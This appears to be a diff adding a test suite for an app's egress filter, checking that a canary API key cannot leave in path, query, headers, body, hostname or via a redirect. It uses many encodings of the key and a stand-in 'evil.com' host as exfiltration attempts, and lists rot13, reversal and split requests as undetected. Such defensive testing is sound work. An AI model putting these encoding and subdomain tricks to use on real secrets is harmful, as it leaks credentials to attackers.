@@ -1,0 +1,100 @@
+import { benchEgress, textOf } from '../support/egress-bench';
+import { carriesSecret } from '@/tools/find-secret';
+import { startRawServer, type RawServer } from '../support/raw-server';
+
+const KEY = 'sk-CANARY-7f3Kq9_ZxW2mB8vT4/aa+Lp0';
+
+const base64 = (text: string) => Buffer.from(text).toString('base64');
+const percent = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16)}`).join('');
+const hex = (text: string) => Buffer.from(text).toString('hex');
+
+/** Ways to write the key that a server could undo without knowing anything. */
+const spellings: [string, string][] = [
+  ['as it is', KEY],
+  ['inside other words', `please store ${KEY} now`],
+  ['in capitals', KEY.toUpperCase()],
+  ['in small letters', KEY.toLowerCase()],
+  ['url-encoded', encodeURIComponent(KEY)],
+  ['wholly url-encoded', percent(KEY)],
+  ['url-encoded twice', encodeURIComponent(percent(KEY))],
+  ['JSON-escaped', [...KEY].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')],
+  ['in base64', base64(KEY)],
+  ['in base64, one byte further', base64(`a${KEY}`)],
+  ['in base64, two bytes further', base64(`ab${KEY}b`)],
+  ['in base64 of a longer text', base64(`{"note":"${KEY}","x":1}`)],
+  ['in base64url', Buffer.from(`?>${KEY}`).toString('base64url')],
+  ['in base64, url-encoded', encodeURIComponent(base64(KEY))],
+  ['in base64 with line breaks', base64(KEY).replace(/(.{10})/g, '$1\r\n')],
+  ['in hexadecimal', hex(KEY)],
+  ['in capital hexadecimal', hex(KEY).toUpperCase()],
+  ['in hexadecimal with colons', hex(KEY).replace(/(..)/g, '$1:')],
+  ['with blanks between', [...KEY].join(' ')],
+  ['with dots between', [...KEY].join('.')],
+  ['in full-width letters', [...KEY].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('')],
+];
+
+let server: RawServer;
+beforeEach(async () => {
+  server = await startRawServer((response) => void response.setHeader('content-type', 'text/plain').end('ok'));
+});
+afterEach(() => server.stop());
+
+describe.each(spellings)('a stored key %s', (_how, spelling) => {
+  it.each([
+    ['the path', { url: `https://site.com/${spelling.replace(/[\r\n]/g, '')}` }],
+    ['the query', { url: `https://site.com/?q=${encodeURIComponent(spelling)}` }],
+    ['a header', { headers: { 'x-note': spelling } }],
+    ['the body', { method: 'POST', body: spelling }],
+    ['a JSON body', { method: 'POST', body: JSON.stringify({ deep: [{ note: spelling }] }) }],
+  ])('does not leave in %s', async (_where, change) => {
+    const { ask, asked } = benchEgress({ 'site.com': server }, { secrets: ['another-secret-1', KEY] });
+    const error: Error = await ask('https://site.com/', change).then(
+      () => new Error('it was sent'),
+      (thrown: Error) => thrown,
+    );
+    expect(error.message).toContain('contains a key or token that is stored in this app');
+    expect(error.message).not.toContain('CANARY');
+    expect([asked, server.requests]).toEqual([[], []]);
+  });
+});
+
+it('does not leave in the name of a host', async () => {
+  const key = 'sk-canary-7f3kq9zxw2mb8vt4';
+  const { ask, asked } = benchEgress({}, { secrets: [key] });
+  for (const host of [key, key.toUpperCase(), 'sk-canary.7f3kq9.zxw2mb8vt4', Buffer.from(key).toString('hex')]) {
+    await expect(ask(`https://${host}.evil.com/`)).rejects.toThrow('stored in this app');
+  }
+  expect(asked).toEqual([]);
+});
+
+it('does not leave for a granted host either', async () => {
+  const { ask } = benchEgress({}, { secrets: [KEY], grants: [new URL(server.url).host] });
+  await expect(ask(server.url, { method: 'POST', body: KEY })).rejects.toThrow('stored in this app');
+  expect(server.requests).toEqual([]);
+});
+
+it('does not leave when a redirect has learnt it from somewhere', async () => {
+  const evil = await startRawServer((response) => {
+    response.writeHead(302, { location: `https://site.com/?k=${encodeURIComponent(KEY)}` }).end();
+  });
+  const { ask } = benchEgress({ 'evil.com': evil, 'site.com': server }, { secrets: [KEY] });
+  await expect(ask('https://evil.com/')).rejects.toThrow('stored in this app');
+  expect(server.requests).toEqual([]);
+  await evil.stop();
+});
+
+it('lets everything else through, also when the key is a short stand-in or part of it is mentioned', async () => {
+  const { ask } = benchEgress({ 'site.com': server }, { secrets: [KEY, 'ollama', ''] });
+  const body = `How do I use a key like sk-CANARY with ollama? ${base64('sk-CANARY')} ${hex('sk-CANARY')} %zz %`;
+  expect(textOf(await ask('https://site.com/?q=sk-CANARY-7f3', { method: 'POST', body }))).toBe('ok');
+  expect(server.requests[0]?.body).toBe(body);
+});
+
+it('reports honestly what it cannot see: encryption, and halves in two requests', () => {
+  const rot13 = KEY.replace(/[a-z]/gi, (c) =>
+    String.fromCharCode((((c.charCodeAt(0) & 31) + 12) % 26) + (c < 'a' ? 65 : 97)),
+  );
+  expect(carriesSecret(rot13, [KEY])).toBe(false);
+  expect(carriesSecret([...KEY].reverse().join(''), [KEY])).toBe(false);
+  expect(carriesSecret(KEY.slice(0, 17), [KEY]) || carriesSecret(KEY.slice(17), [KEY])).toBe(false);
+});
